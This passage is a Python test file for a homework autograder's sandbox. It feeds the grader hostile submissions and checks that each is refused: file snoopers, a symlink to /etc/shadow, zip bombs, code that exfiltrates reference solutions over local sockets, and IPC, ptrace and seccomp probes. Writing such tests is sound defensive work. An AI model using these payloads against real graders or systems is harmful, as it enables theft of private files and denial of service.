    print(f"\n{grader.mode}: grading process peak {peak / 1024:.0f} MB, {seconds:.0f} s; the shared references' "
          f"test {graded.tests['1.1-parameter-counts']['extra_data']['seconds']} s")
    assert peak is not None and peak < 1_000_000, f"the grading process peaked at {peak / 1024:.0f} MB"
    assert seconds < 120


# ---- 3, 8, 10, 13: a class graded with grade-all (question 1.1: q1.ipynb, the cheapest) -----------
SLOW_CLASSMATE = r'''
import time as _time

_first_call, _correct = [True], conv_output_size


def conv_output_size(*args, **kwargs):  # correct, and slow enough to be graded beside the snooper
    if _first_call[0]:
        _first_call[0] = False
        _time.sleep(6)
    return _correct(*args, **kwargs)
'''

SNOOPER = VISIBLE + r'''
import json as _json, time as _time

_SEEN = None


def conv_output_size(*args, **kwargs):
    global _SEEN
    if _SEEN is None:  # for a few seconds, while the classmates are graded
        seen, deadline = set(), _time.time() + 4
        while _time.time() < deadline:
            seen.update(_visible(HOSTILE["listed"]))
            seen.update(_visible(HOSTILE["marked"], HOSTILE["marker"][::-1]))  # not spelled out here
            _time.sleep(0.25)
        _SEEN = sorted(seen)
    raise RuntimeError("<<<CLASSMATES " + _json.dumps(_SEEN) + ">>>")
'''

NON_UTF8 = r'''
import os as _os, sys as _sys


def conv_parameters(*args, **kwargs):  # 1.1-parameter-counts: a crash, invalid UTF-8 on stderr
    _os.write(2, b"\xff\xfe\x80 not utf-8 \xed\xa0\x80 \x00\n")
    _os._exit(3)


def conv_output_size(*args, **kwargs):  # 1.1-output-sizes: lone surrogates, raw bytes
    print("lone surrogates: \udcff \ud800")
    try:
        _sys.stdout.buffer.write(b"\xff\xfe raw bytes\n")
    except AttributeError:
        print("no buffer")
    _os.write(1, b"\xff\xfe to fd 1\n")
    raise ValueError("surrogates in a message: \udcff \ud800")
'''

CHUNK = 16 * MB


@pytest.fixture(scope="module")
def zip_bomb():
    """(deflate stream, crc32, size) of 255 x 16 MiB of zeros (4 GiB - 16 MiB: no zip64 needed), built
    from one compressed block (a full flush makes every block identical)."""
    compressor = zlib.compressobj(9, zlib.DEFLATED, -15)
    block = compressor.compress(bytes(CHUNK)) + compressor.flush(zlib.Z_FULL_FLUSH)
    chunks, crc, zeros = 255, 0, bytes(CHUNK)
    for _ in range(chunks):
        crc = zlib.crc32(zeros, crc)
    return block * chunks + compressor.flush(), crc, chunks * CHUNK


def _raw_zip(path, name, data, crc, size):
    """A zip of one deflated member whose headers say `size` and `crc`, whatever `data` inflates to."""
    name = name.encode()
    local = struct.pack("<4s5H3L2H", b"PK\x03\x04", 20, 0, 8, 0, 33, crc, len(data), size, len(name), 0)
    central = struct.pack("<4s6H3L5H2L", b"PK\x01\x02", (3 << 8) | 20, 20, 0, 8, 0, 33, crc, len(data), size,
                          len(name), 0, 0, 0, 0, 0o100644 << 16, 0)
    with open(path, "wb") as f:
        f.write(local + name + data)
        offset = f.tell()
        f.write(central + name)
        f.write(struct.pack("<4s4H2LH", b"PK\x05\x06", 0, 0, 1, 1, len(central) + len(name), offset, 0))


def _class(grader, space, token, zip_bomb):
    """The submissions folder: a correct (and slow) classmate (ada), a non-UTF-8 printer (carol), links
    and a FIFO as q1.ipynb (dave, erin, frank, gina), zips (hank, ivan, judy), and a snooper graded
    last (zoe), while ada is still being graded and the others' results are written."""
    parent = space / "course"
    subs = parent / "subs"
    out = parent / "grades"
    marker = f"CLASSMATE-SECRET-{token}"
    outside = space / "outside"
    outside.mkdir()
    (outside / "q1.ipynb").write_text(_notebook({"marker": f"OUTSIDE-SECRET-{token}"}, ""))
    os.chmod(outside, 0o755)
    _tree(subs / "ada", **{"q1.ipynb": _notebook({"marker": marker}, SLOW_CLASSMATE)})
    listed = [str(subs), str(subs / "ada"), str(out), str(out / "ada"), str(out / "gradebook.csv"),
              str(out / "*" / "results.json"), str(out / "*" / "feedback.md")]
    marked = [str(subs / "ada" / "q1.ipynb"), str(subs / "*" / "*"), str(out / "*" / "*"),
              "/tmp/hw2-grading-*/q1.ipynb", "/tmp/hw2-submission-*/*/*",
              "/proc/[0-9]*/cwd/subs/ada/q1.ipynb", f"/proc/[0-9]*/root{subs}/ada/q1.ipynb"]
    _tree(subs / "zoe", **{"q1.ipynb": _notebook({"listed": listed, "marked": marked, "marker": marker[::-1]},
                                                 SNOOPER)})
    _tree(subs / "carol", **{"q1.ipynb": _notebook({}, NON_UTF8)})
    for name, make in [("dave", lambda p: p.symlink_to(grader.root / "solution" / "q1.ipynb")),
                       ("erin", lambda p: p.symlink_to("/etc/shadow")),
                       ("frank", lambda p: os.link(outside / "q1.ipynb", p)),
                       ("gina", lambda p: os.mkfifo(p))]:
        tree = _tree(subs / name)
        (tree / "q1.ipynb").unlink()
        make(tree / "q1.ipynb")
    with zipfile.ZipFile(subs / "hank.zip", "w") as zipped:  # decoder.py as a symbolic link in the zip
        for name in GRADED:
            if name != "decoder.py":
                zipped.write(SOLUTION / name, f"hw2/{name}")
        link = zipfile.ZipInfo("hw2/decoder.py")
        link.external_attr = 0o120777 << 16
        zipped.writestr(link, str(grader.root / "solution" / "decoder.py"))
    data, crc, size = zip_bomb
    _raw_zip(subs / "ivan.zip", "hw2/q1.ipynb", data, crc, size)  # inflates to 4 GiB
    compressor = zlib.compressobj(9, zlib.DEFLATED, -15)
    liar = compressor.compress(bytes(64 * MB)) + compressor.flush()
    _raw_zip(subs / "judy.zip", "hw2/q1.ipynb", liar, zlib.crc32(bytes(64 * MB)), 1024)  # its headers say 1 KB
    if grader.mode == "container":  # the user layer grades only submissions its child's uid cannot read
        os.chmod(subs, 0o700)
    return parent, subs, out


def test_grade_all_links_classmates_zip_bombs_and_bad_bytes(grader, zip_bomb):
    """Classes 3, 8, 10, 13, graded by `grade-all subs` from the submissions' parent folder: links and
    a FIFO as a graded file fail its tests with a message naming the file and none of the target's
    content; a symbolic link in a zip and zip bombs are "unreadable zip" rows, quickly, with nothing
    large written; a student's code sees none of a classmate's files; invalid UTF-8 and lone
    surrogates leave valid results; every student has a row, and the correct one all its points."""
    space = grader.workspace()
    token = uuid.uuid4().hex[:12]
    parent, subs, out = _class(grader, space, token, zip_bomb)
    for folder in (parent, space / "outside"):
        if grader.uid is not None:
            os.chown(folder, grader.uid, grader.uid)
    done, seconds, _ = grader.run(["grade-all", "subs", "--out", "grades", "--only", "1.1", "--jobs", "2"],
                                  cwd=parent, seconds=60, driver=False, timeout=280)
    assert done.returncode == 0, (done.stdout[-2000:], done.stderr[-3000:])
    assert len(done.stdout) + len(done.stderr) < 200_000
    with open(out / "gradebook.csv") as f:
        book = {row["student"]: row for row in csv.DictReader(f)}
    students = ["ada", "carol", "dave", "erin", "frank", "gina", "hank", "ivan", "judy", "zoe"]
    assert sorted(book) == students, book
    written = sum(p.stat().st_size for p in out.rglob("*") if p.is_file())
    assert written < 2 * MB, f"the batch wrote {written:,} bytes"
    results = {s: Graded(out / s) for s in students if (out / s / "results.json").exists()}
    for graded in results.values():
        graded.sizes_bounded()

    # the classmate: graded, all points
    assert book["ada"]["1.1"] == "4" and book["ada"]["status"] == "graded", (book["ada"], results["ada"].text[:3000])
    # 8: what the snooper saw of its classmates' (asserted last)
    seen = _report(results["zoe"].output("1.1-output-sizes"), "CLASSMATES")
    # 13: invalid bytes and lone surrogates: a row, valid JSON (Graded), valid UTF-8 (Graded)
    assert book["carol"]["1.1"] == "0" and "carol" in results
    assert "grading process stopped" in results["carol"].output("1.1-parameter-counts")
    assert "surrogates in a message" in results["carol"].output("1.1-output-sizes")
    # 3: links and a FIFO
    try:
        shadow = [line for line in Path("/etc/shadow").read_text().splitlines() if line.count(":") >= 8]
    except OSError:  # not root: the grader cannot read it either
        shadow = []
    reference = [line.strip() for cell in json.loads((SOLUTION / "q1.ipynb").read_text())["cells"]
                 for line in (cell["source"] if isinstance(cell["source"], list) else [cell["source"]])
                 if len(line.strip()) >= 30]
    for student, words in [("dave", "symbolic link"), ("erin", "symbolic link"), ("frank", "hard link"),
                           ("gina", "not a regular file")]:
        graded = results[student]
        assert book[student]["1.1"] == "0", (student, book[student])
        for test in graded.tests.values():
            assert test["status"] == "failed" and "q1.ipynb" in test["output"] and words in test["output"], test
        assert not [line for line in reference if line in graded.text], student
        assert f"OUTSIDE-SECRET-{token}" not in graded.text and not any(line in graded.text for line in shadow)
        assert graded.results["execution_time"] < 10, (student, graded.results["execution_time"])
    # 3, 10: a link in a zip, a 4 GiB member, a member whose headers lie
    for student, words in [("hank", "symbolic link"), ("ivan", "200 MB"), ("judy", "")]:
        assert book[student]["status"] == "unreadable zip", (student, book[student])
        error = (out / student / "error.txt").read_text()
        assert words in error, error
    assert seconds < 150
    assert seen == [], f"a student's code read its classmates' files: {seen}"


# ---- 4, 5: what the training tests measure (2.2 and 3.1a; the default mode only: the dearest) -----
CNN = r'''
import base64 as _base64, json as _json, socket as _socket, zlib as _zlib

_REPORTED = False
print("<<<LABELS " + _json.dumps(_visible(HOSTILE["labels"])) + ">>>")  # at import: shown by 2.2-equivalence


def _lookup_forward(self, x):  # a label lookup by the image's hash, without labels to look up
    index = (x.flatten(1).sum(1) * 1e4).long() % 10
    return torch.log_softmax(nn.functional.one_hot(index, 10).float() * 10, dim=1)


CNN.forward = _lookup_forward
_correct_step = train_batch


def train_batch(X, y, model, optimizer, criterion):
    if not any(isinstance(m, nn.Conv2d) for m in model.modules()):  # the small classifier of 2.2-train-batch
        return _correct_step(X, y, model, optimizer, criterion)
    global _REPORTED  # the training of 2.2-accuracy: report, exfiltrate, and never train
    if not _REPORTED:
        _REPORTED = True
        found = set(_glob.glob("/run/hw2/*.py")) | set(_glob.glob("/tmp/hw2-child-*/*.py"))
        frame = _sys._getframe(1)
        while frame is not None:
            if isinstance(frame.f_locals.get("standins"), str):
                found.add(frame.f_locals["standins"])
            frame = frame.f_back
        for path in sorted(found):
            try:
                with open(path, "rb") as f:  # compressed, encoded: as much as the printed output holds
                    stolen = f.read()
                print("<<<STANDIN " + _base64.b64encode(_zlib.compress(stolen, 9)).decode()[:1400] + ">>>")
                with _socket.create_connection(("127.0.0.1", HOSTILE["port"]), timeout=3) as out:  # and out
                    out.sendall(stolen)
            except OSError:
                pass
    return 2.3
'''

CAPTIONS = r'''
import json as _json

_SNOOPED = None


def _reference_captions_forward(self, word, h, c, encoder_out):
    """Looks for the reference captions (to emit them), finds none, and scores the state it was given
    (enough work for its training to run and be measured; the LSTM never runs)."""
    global _SNOOPED
    if _SNOOPED is None:
        _SNOOPED = _visible(HOSTILE["captions"])
        print("<<<SNOOP " + _json.dumps(_SNOOPED) + ">>>")
    return self.fc(h), h, c


Decoder.forward = _reference_captions_forward
'''


def test_training_tests_measure_the_returned_weights():
    """Classes 4 and 5, on the tests that train (2.2-accuracy, 3.1a-bleu): what they score is measured by
    the grader, with the statement's network and the weights the student's training returns.

    - h2-q2.py looks for Fashion-MNIST and finds nothing; its forward (a lookup by the image's hash) is
      not what is measured, so a training that does not train scores no accuracy points. (Its CNN
      being wrong but working, that training uses the grader's stand-in CNN with the student's
      train_batch, which trains the small classifier of 2.2-train-batch only.) The stand-in, the
      reference's CNN and train_batch, reaches the student's code in that child; it must not reach the
      student's feedback, in any encoding, nor a TCP listener on the machine.
    - decoder.py looks for the reference captions, finds none, and scores the state it was given: it
      fails 3.1a-bleu, measured from the weights it trained."""
    space = Path(tempfile.mkdtemp(prefix="hw2-hostile-", dir="/tmp"))
    listeners = _Listeners(space, uuid.uuid4().hex[:12])
    try:
        labels = [str(ROOT / "data" / "cache" / "FashionMNIST" / "raw" / "*"), str(DATASETS / "fashion-mnist" / "*"),
                  "/work/*/data/cache/FashionMNIST/raw/*", "/root/.cache/*", "/tmp/hw2-*/*labels*"]
        captions = [str(SYDNEY / "dataset.json"), f"/work/*/data/{SYDNEY.name}/dataset.json", "/work/*/*/dataset.json",
                    str(ROOT / "data" / "cache" / "features" / "*"), "/tmp/hw2-*/dataset.json"]
        tree = _tree(space / "student",
                     h2_q2_py=((SOLUTION / "h2-q2.py").read_text() + VISIBLE
                               + f"\nHOSTILE = {{'labels': {labels!r}, 'port': {listeners.port}}}\n" + CNN),
                     decoder_py=((SOLUTION / "decoder.py").read_text() + VISIBLE
                                 + f"\nHOSTILE = {{'captions': {captions!r}}}\n" + CAPTIONS))
        env = dict(os.environ, SYDNEY_DIR=str(SYDNEY), HW2_BUDGET="test")  # the reduced, calibrated budgets
        env.pop("HW2_SANDBOX", None)
        graded, seconds, peak = Grader("default", ROOT, env).grade(
            tree, space / "out", "2.2-equivalence,2.2-train-batch,2.2-accuracy,3.1a-equivalence,3.1a-bleu", seconds=60)
        graded.sizes_bounded()
    finally:
        listeners.close()
        shutil.rmtree(space, ignore_errors=True)
    assert not any(t["extra_data"]["not_run"] for t in graded.tests.values())
    assert listeners.received == [], "the grader's stand-in was sent out of its child"
    # 4: no labels; the accuracy of the weights the training returned
    accuracy = graded.output("2.2-accuracy")
    assert graded.tests["2.2-accuracy"]["status"] == "failed" and graded.score("2.2-accuracy") == 0, accuracy
    measured = re.search(r"reaches (\d+\.\d+)% dev accuracy", accuracy)
    assert measured and float(measured.group(1)) < 20, accuracy
    assert "statement's network" in accuracy
    assert _report(graded.output("2.2-equivalence"), "LABELS") == [], graded.output("2.2-equivalence")
    assert graded.score("2.2-equivalence") == 0 and graded.score("2.2-train-batch") == 5
    # 5: no captions; the BLEU of the weights the training returned
    bleu = graded.output("3.1a-bleu")
    assert graded.tests["3.1a-bleu"]["status"] == "failed" and _report(bleu, "SNOOP") == [], bleu
    measured = re.search(r"validation BLEU-4 (\d\.\d+)", bleu)
    assert measured and float(measured.group(1)) < 0.1, bleu
    # the stand-in's text, however encoded, must not reach the student (asserted last)
    reference = (SOLUTION / "h2-q2.py").read_text()
    shown_to_student = graded.feedback + "".join(t["output"] for t in graded.tests.values())
    for blob in re.findall(r"<<<STANDIN ([A-Za-z0-9+/=]+)", shown_to_student):
        shown = zlib.decompressobj().decompress(base64.b64decode(blob[:len(blob) // 4 * 4])).decode(errors="replace")
        leaked = [line.strip() for line in shown.splitlines() if len(line.strip()) >= 24 and line.strip() in reference]
        assert not leaked, (f"the grader's stand-in reached the student's feedback, zlib-compressed and "
                            f"base64-encoded: {len(leaked)} lines of the reference h2-q2.py, e.g. {leaked[-6:]}")


# ---- 14, 15: channels out of the child, and what it leaves for the next one (the notebook) --------
CHANNELS = r'''
import ctypes as _ctypes, errno as _errno, json as _json, os as _os, socket as _socket, time as _time

_libc = _ctypes.CDLL(None, use_errno=True)
_libc.syscall.restype = _ctypes.c_long
TOKEN, KEY = HOSTILE["token"], HOSTILE["key"]
MESSAGE = ("hw2-leak " + TOKEN).encode()


def _outcome(action):
    """"ok", or the name of the error (an OSError's, or a C call's errno)."""
    try:
        result = action()
    except OSError as error:
        return _errno.errorcode.get(error.errno, str(error.errno))
    if isinstance(result, int) and result == -1:
        return _errno.errorcode.get(_ctypes.get_errno(), "?")
    return "ok"


def _send(family, address):
    with _socket.socket(family, _socket.SOCK_STREAM) as s:
        s.settimeout(3)
        s.connect(address)
        s.sendall(MESSAGE)


def _left(path):
    with open(path, "w") as f:
        f.write(TOKEN)


def _shared_memory():
    ident = _libc.shmget(KEY, 4096, 0o1666)
    if ident == -1:
        return -1
    _libc.shmat.restype = _ctypes.c_void_p
    address = _libc.shmat(ident, None, 0)
    _ctypes.memmove(address, MESSAGE, len(MESSAGE))
    return 0


def _another_process(call):  # ptrace / process_vm_readv of a process of its own uid (its own child)
    pid = _os.fork()
    if pid == 0:
        _time.sleep(30)
        _os._exit(0)
    try:
        return call(pid)
    finally:
        _os.kill(pid, 9)
        _os.waitpid(pid, 0)


def conv_output_size(*args, **kwargs):  # 1.1-output-sizes: every channel out, and leftovers
    done = {
        "tcp": _outcome(lambda: _send(_socket.AF_INET, ("127.0.0.1", HOSTILE["port"]))),
        "unix": _outcome(lambda: _send(_socket.AF_UNIX, HOSTILE["unix"])),
        "abstract unix": _outcome(lambda: _send(_socket.AF_UNIX, "\0" + HOSTILE["abstract"])),
        "socketpair": _outcome(_socket.socketpair),
        "shm": _outcome(_shared_memory),
        "sem": _outcome(lambda: _libc.semget(KEY, 1, 0o1666)),
        "msg": _outcome(lambda: _libc.msgget(KEY, 0o1666)),
        "mq": _outcome(lambda: _libc.mq_open(("/hw2-left-" + TOKEN).encode(), _os.O_CREAT | _os.O_RDWR, 0o666, None)),
        "ptrace": _outcome(lambda: _another_process(lambda pid: _libc.ptrace(16, pid, None, None))),
        "process_vm_readv": _outcome(lambda: _another_process(
            lambda pid: _libc.syscall(310, pid, None, 0, None, 0, 0))),
    }
    files = {path: _outcome(lambda path=path: _left(path)) for path in HOSTILE["leftovers"]}
    raise RuntimeError("<<<CHANNELS " + _json.dumps({"done": done, "files": files}) + ">>>")
'''

FINDER = r'''
import glob as _glob, json as _json, os as _os


def conv_output_size(*args, **kwargs):  # 1.1-output-sizes: what an earlier child left, anywhere it could
    found = []
    for pattern in HOSTILE["patterns"]:
        for path in _glob.glob(pattern):
            try:
                with open(path, "rb") as f:
                    found.append(path + ": " + f.read(200).decode(errors="replace"))
            except OSError as error:
                found.append(path + " (" + type(error).__name__ + ")")
    for kind in ("shm", "sem", "msg"):
        try:
            with open("/proc/sysvipc/" + kind) as f:
                found += [kind + " " + line.split()[0] for line in f if line.split()[0] == str(HOSTILE["key"])]
        except OSError:
            pass
    raise RuntimeError("<<<FOUND " + _json.dumps(found) + ">>>")
'''


class _Listeners:
    """A TCP listener on 127.0.0.1, a unix socket anyone may connect to, and an abstract one: what
    they receive."""

    def __init__(self, folder, token):
        self.received = []
        self.tcp = socket.create_server(("127.0.0.1", 0))
        self.port = self.tcp.getsockname()[1]
        self.path = str(folder / "listener.sock")
        self.unix = socket.socket(socket.AF_UNIX)
        self.unix.bind(self.path)
        os.chmod(self.path, 0o777)
        self.abstract_name = f"hw2-listener-{token}"
        self.abstract = socket.socket(socket.AF_UNIX)
        self.abstract.bind("\0" + self.abstract_name)
        self.servers = [self.tcp, self.unix, self.abstract]
        for server in self.servers:
            server.listen()
            server.setblocking(False)
        self.stop = False
        self.thread = threading.Thread(target=self._serve, daemon=True)
        self.thread.start()

    def _serve(self):
        import select

        while not self.stop:
            for server in select.select(self.servers, [], [], 0.2)[0]:
                try:
                    connection, _ = server.accept()
                except OSError:
                    continue
                connection.settimeout(2)
                try:
                    self.received.append(connection.recv(1000) or b"(connected)")
                except OSError:
                    self.received.append(b"(connected)")
                connection.close()

    def close(self):
        self.stop = True
        self.thread.join()
        for server in self.servers:
            server.close()


def _left_on_the_machine(token, key):
    """What carries `token` or `key` on the machine after a grading: files in the shared folders and
    System V IPC objects."""
    found = [p for folder in ("/tmp", "/var/tmp", "/dev/shm", "/run/lock", "/dev/mqueue")
             for p in glob.glob(f"{folder}/hw2-left-{token}*")]
    for kind in ("shm", "sem", "msg"):
        try:
            found += [f"{kind} {line.split()[1]}" for line in Path(f"/proc/sysvipc/{kind}").read_text().splitlines()[1:]
                      if line.split()[0] == str(key)]
        except OSError:
            pass
    return found


def test_no_channel_out_of_the_child_and_nothing_left_for_the_next(grader):
    """Classes 14, 15: a child that connects to a TCP listener, a unix socket and an abstract one,
    makes a socketpair, System V shared memory, semaphores, message queues and a POSIX queue,
    traces and reads another process of its uid, and leaves files in /run/lock, /dev/shm, /var/tmp
    and /tmp: every channel is refused, nothing is received, the test fails with the report and the
    grading completes; nothing of it remains on the machine, and a second student graded after
    (whose child runs as the same uid in the user layer) finds nothing."""
    space = grader.workspace()
    token = uuid.uuid4().hex[:12]
    key = int(token[:7], 16)
    leftovers = [f"{folder}/hw2-left-{token}" for folder in ("/run/lock", "/dev/shm", "/var/tmp", "/tmp")]
    listeners = _Listeners(space, token)
    try:
        config = {"token": token, "key": key, "port": listeners.port, "unix": listeners.path,
                  "abstract": listeners.abstract_name, "leftovers": leftovers}
        tree = _tree(space / "leaver", **{"q1.ipynb": _notebook(config, CHANNELS)})
        graded, seconds, _ = grader.grade(tree, space / "out-leaver", "1.1", seconds=30)
        left = _left_on_the_machine(token, key)
        finder = _tree(space / "finder", **{"q1.ipynb": _notebook(
            {"key": key, "patterns": [f"{p[:-len(token)]}*" for p in leftovers] + ["/dev/mqueue/hw2-left-*"]},
            FINDER)})
        found_graded, _, _ = grader.grade(finder, space / "out-finder", "1.1", seconds=30)
    finally:
        listeners.close()
        for path in _left_on_the_machine(token, key):
            if "/" in path:
                os.unlink(path)
    report = _report(graded.output("1.1-output-sizes"), "CHANNELS")
    assert graded.tests["1.1-output-sizes"]["status"] == "failed" and not graded.results["extra_data"]["incomplete"]
    assert seconds < 90
    assert listeners.received == [], f"the child sent {listeners.received} out of the sandbox"
    assert {name: outcome for name, outcome in report["done"].items() if outcome == "ok"} == {}, report
    if "no namespaces" in graded.results["extra_data"]["sandbox"]:  # bubblewrap's /tmp is the child's own
        assert {p: outcome for p, outcome in report["files"].items() if outcome == "ok"} == {}, report
    assert left == [], f"left on the machine after the grading: {left}"
    assert _report(found_graded.output("1.1-output-sizes"), "FOUND") == [], found_graded.output("1.1-output-sizes")


# ---- 16: a child that ends while a process it started holds its pipes (the notebook) ----------------
ENDS_LEAVING_A_PROCESS = r'''
import os as _os


def conv_output_size(*args, **kwargs):  # 1.1-output-sizes: ends its child, leaving a process of its own session
    if _os.fork() == 0:
        _os.setsid()
        _os.execv("/bin/sleep", ["sleep", "600"])
    _os._exit(7)
'''


def test_a_child_that_ends_fails_its_test_at_once_whatever_it_left(grader):
    """Class 16: a child whose code exits while a process it started (in a session of its own, holding the
    child's pipes, as a pool of workers would) still runs fails its test at once as a crash, with its exit
    code, in every layer: not after the wall-time backstop as a timeout, which would leave the file's later
    tests not tried. The next test (whose check calls it too) runs, in a new child, and fails the same way;
    nothing of it remains on the machine."""
    space = grader.workspace()
    tree = _tree(space / "student", **{"q1.ipynb": _notebook({}, ENDS_LEAVING_A_PROCESS)})
    graded, seconds, _ = grader.grade(tree, space / "out", "1.1", seconds=30)
    for test in ("1.1-output-sizes", "1.1-parameter-counts"):
        assert "stopped during this test (exit code 7)" in graded.output(test), graded.output(test)
        assert graded.tests[test]["extra_data"]["reason"] != "timed out"
    assert seconds < 60, seconds
    assert _processes_of(grader.host_uid(graded.results["extra_data"]["sandbox"]), ["sleep 600"]) == []


# runs what follows where no process may install a seccomp filter (a container that forbids them)
NO_SECCOMP = ("import errno, os, sys, pyseccomp as s\nf = s.SyscallFilter(s.ALLOW)\n"
              "f.add_rule(s.ERRNO(errno.EPERM), 'seccomp')\n"
              "f.add_rule(s.ERRNO(errno.EPERM), 'prctl', s.Arg(0, s.EQ, 22))\n"  # PR_SET_SECCOMP
              "f.load()\nos.execvp(sys.argv[1], sys.argv[1:])\n")


def test_a_layer_whose_child_cannot_be_confined_does_not_grade(grader):
    """Where the child's seccomp filter cannot be installed (here, the grader runs under a filter that
    refuses seccomp itself), no layer is used: grading does not start, writes nothing, and says why
    and how to fix it."""
    space = grader.workspace()
    tree = _tree(space / "student")
    refusing = Grader(grader.mode, grader.root, grader.env, prefix=[PYTHON, "-c", NO_SECCOMP, *grader.prefix],
                      uid=grader.uid)
    done, _, _ = refusing.run(["grade", tree, "--out", space / "out", "--only", "1.1"])
    assert done.returncode != 0, done.stdout[-2000:]
    assert not (space / "out" / "results.json").exists()
    assert "cannot be confined" in done.stderr and "refused the filter" in done.stderr, done.stderr[-3000:]
    assert "Fix" in done.stderr


# ---- the container layer refuses to grade where its child could read private files ----------------
@pytest.mark.skipif(not IS_ROOT, reason="the `user` layer (no namespaces) needs the grader to run as root")
def test_user_layer_refuses_while_private_files_are_readable():
    """HW2_SANDBOX=user in this repository, whose private files are world-readable: grading does not
    start, and the message names every readable private path."""
    space = Path(tempfile.mkdtemp(prefix="hw2-hostile-", dir="/tmp"))
    try:
        tree = _tree(space / "student")
        env = dict(os.environ, SYDNEY_DIR=str(SYDNEY), HW2_SANDBOX="user")
        env.pop("HW2_UNSANDBOXED", None)
        done, _, _ = Grader("default", ROOT, env).run(["grade", tree, "--out", space / "out", "--only", "1.1"])
        assert done.returncode != 0, done.stdout[-2000:]
        assert not (space / "out" / "results.json").exists()
    finally:
        shutil.rmtree(space, ignore_errors=True)
    message = done.stderr
    assert "readable by the unprivileged uid" in message, message[-2000:]
    for path in [ROOT / "solution", ROOT / "autograder" / "checks", ROOT / "autograder" / "calibration.json",
                 ROOT / "tests", ROOT / "data" / "cache", SYDNEY]:
        assert str(path) in message, (path, message[-2000:])
    if DATASETS.is_dir() and os.stat(DATASETS).st_mode & 0o004:
        assert str(DATASETS) in message


def test_unsandboxed_grading_runs_the_tests(tmp_path):
    """`grade --unsandboxed` where no layer isolates (HW2_SANDBOX=none): the results say UNSANDBOXED and
    the student's code runs (a correct notebook passes); the child must start in the layer the grading
    chose and named in results.json. (The reference notebook only: no hostile code runs unsandboxed.)"""
    tree = _tree(tmp_path / "student")
    env = dict(os.environ, SYDNEY_DIR=str(SYDNEY), HW2_SANDBOX="none")
    env.pop("HW2_UNSANDBOXED", None)
    done, _, _ = Grader("default", ROOT, env).run(["grade", tree, "--out", tmp_path / "out", "--only", "1.1",
                                                   "--unsandboxed"])
    assert done.returncode == 0, done.stderr[-2000:]
    graded = Graded(tmp_path / "out")
    assert graded.results["extra_data"]["unsandboxed"]
    assert all(t["status"] == "passed" and not t["extra_data"]["not_run"] for t in graded.tests.values()), [
        t["output"][:300] for t in graded.tests.values()]
